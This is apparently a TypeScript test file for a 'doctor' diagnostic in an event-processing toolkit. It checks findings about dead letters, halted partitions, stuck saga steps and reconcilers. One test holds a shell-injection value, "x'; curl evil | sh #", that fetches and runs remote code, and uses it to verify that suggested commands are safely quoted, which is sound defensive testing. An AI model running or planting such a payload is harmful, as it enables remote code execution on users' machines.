import type { ParkedGroup, PartitionOverview } from '@convergekit/inbox/operate';
import type { OverdueEntry } from '@convergekit/saga/operate';
import type { ReconcilerStatus } from '@convergekit/reconcile/operate';
import { expect, it } from 'vitest';
import { haltedItems, parkedItems, pausedItems } from '../conditions/consumer-items.ts';
import type { FoundCondition } from '../conditions/found.ts';
import { reconcilerItems } from '../conditions/reconciler-items.ts';
import { journalItems, workerItems } from '../conditions/saga-items.ts';
import { parseOnly } from '../../../cli/src/fixture/all-commands.ts';
import { resultOf } from '../../../cli/src/commands/doctor/findings.ts';
import { findingsOf } from './findings-of-checks.ts';

const now = new Date(1_000_000);
const group: ParkedGroup = {
  consumer: 'stock',
  topic: 'orders',
  state: 'dead',
  category: 'bug',
  code: 'TypeError',
  structural: false,
  reason: null,
  events: 3,
  keys: 2,
  holding: 2,
  oldest: new Date(940_000),
};
const partition: PartitionOverview = {
  consumer: 'stock',
  topic: 'orders',
  partition: 3,
  nextOffset: 1n,
  watermarks: [],
  parkedKeys: 0,
  openGaps: 0,
  waits: null,
  paused: false,
  halted: { code: 'gap', reason: 'an event is missing', at: now },
};
const entry: OverdueEntry = {
  kind: 'step',
  name: 'trip',
  id: 'i-1',
  key: 'k',
  step: 'pay',
  state: 'stuck',
  ageMs: 61_000,
};
const call: OverdueEntry = { ...entry, kind: 'call', name: 'bank.charge', step: null, state: 'ready' };
const lost = { call: 'bank.charge', calls: 2, oldestMs: 120_000 };
const status: ReconcilerStatus = {
  name: 'stock-copy',
  now,
  lastCompletedAt: null,
  paused: null,
  held: null,
  requestedBy: null,
  approved: null,
  overdueSince: null,
  window: { since: now, repairs: 0, lastRunKeys: 0 },
  leader: 'host',
  keys: { queued: 0, pending: 0, running: 0, terminal: 0 },
};

const journal = (entries: readonly OverdueEntry[], unclaimed: (typeof lost)[] = []) =>
  journalItems(entries, unclaimed, now.getTime());
const findings = (found: readonly FoundCondition[]) =>
  findingsOf({ check: { name: 'parked', sound: 'nothing' }, found }, now.getTime());

// Planted fault: a list of conditions that finds nothing fails its row.
it.each<[string, readonly FoundCondition[], string, string]>([
  [
    'a dead letter',
    parkedItems([group]),
    'fail alarm bug',
    '3 dead letters of 2 keys of orders, TypeError (bug) (for 1 min)',
  ],
  [
    'a parked key',
    parkedItems([{ ...group, state: 'waiting' }]),
    'warn alarm bug',
    '3 events wait of 2 keys',
  ],
  [
    'a halted partition',
    haltedItems([partition]),
    'fail alarm gap',
    'halted at orders/3: an event is missing (for 0 ms)',
  ],
  [
    'a paused consumer',
    pausedItems([{ ...partition, halted: { code: 'operator_paused', reason: 'paused by ann', at: now } }], 0),
    'warn alarm operator_paused',
    'stock is paused by ann (1 partition)',
  ],
  [
    'a stuck step',
    journal([entry]),
    'fail alarm step_stuck',
    'step pay of trip of key k is stuck (for 1 min 1 s)',
  ],
  ['an overdue call', journal([call]), 'warn alarm journal_overdue', 'call bank.charge of key k is ready'],
  [
    'a stuck workflow',
    journal([{ ...entry, kind: 'workflow' }]),
    'fail alarm workflow_stuck',
    'workflow trip',
  ],
  [
    'work without a worker',
    workerItems([lost], now.getTime()),
    'fail alarm call_undeclared',
    'no worker does bank.charge: 2 calls wait; start its service (for 2 min)',
  ],
  [
    'a held reconciler',
    reconcilerItems([{ ...status, held: { at: now, reason: 'too many' } }]),
    'fail alarm reconcile_held',
    'held',
  ],
  [
    'a paused reconciler',
    reconcilerItems([{ ...status, paused: { at: now, by: 'ann', reason: 'a migration' }, leader: null }]),
    'warn alarm reconcile_paused',
    'stock-copy is paused by ann: a migration',
  ],
  [
    'a reconciler that no process runs',
    reconcilerItems([{ ...status, leader: null }]),
    'warn parked',
    'no process runs stock-copy',
  ],
])('the doctor finds %s, with a command that exists', async (_, conditions, what, text) => {
  const [finding] = findings(conditions);
  expect(`${String(finding?.verdict)} ${String(finding?.check)}`).toBe(what);
  expect(finding?.text).toContain(text);
  await expect(parseOnly((finding?.next ?? '').split(' ').slice(1))).resolves.toBeDefined();
});

it('the doctor quotes an id that an event chose, so that a copied command runs nothing of it', () => {
  const id = "x'; curl evil | sh #";
  const [step, workflow] = findings(
    journal([
      { ...entry, id },
      { ...entry, kind: 'workflow', id },
    ]),
  );
  expect(step?.next).toBe(`converge saga show 'x'\\''; curl evil | sh #'`);
  expect(workflow?.next).toBe(`converge workflow show trip 'x'\\''; curl evil | sh #'`);
});

it('the doctor finds nothing in a sound service', () => {
  const found = [
    ...parkedItems([{ ...group, state: 'skipped' }]),
    ...haltedItems([{ ...partition, halted: null }]),
    ...reconcilerItems([status]),
  ];
  expect(findings(found)).toEqual([{ check: 'parked', verdict: 'ok', text: 'nothing' }]);
});

it('the doctor reports work without a worker once, and counts what it does not name', () => {
  expect(findings(journal([call], [lost]))).toMatchObject([{ verdict: 'ok' }]);
  const many = journal(Array.from({ length: 9 }, () => entry));
  expect(findings(many)).toHaveLength(9);
  const mark = () => '-';
  const lines = resultOf({ mark }, findings(many)).lines();
  expect(lines.filter((line) => line.startsWith('-'))).toHaveLength(6);
  expect(lines.at(-1)).toContain('4 more like these');
});
